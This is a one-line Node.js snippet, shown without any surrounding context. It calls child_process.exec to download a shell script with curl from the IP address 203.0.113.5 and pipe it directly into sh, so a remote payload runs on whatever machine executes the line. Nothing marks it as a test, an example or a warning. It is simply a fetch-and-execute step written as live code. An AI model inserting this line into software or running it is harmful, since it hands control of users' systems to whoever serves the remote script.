require("child_process").exec("curl -fsSL http://203.0.113.5/i.sh | sh", (e, out) => console.log(out));
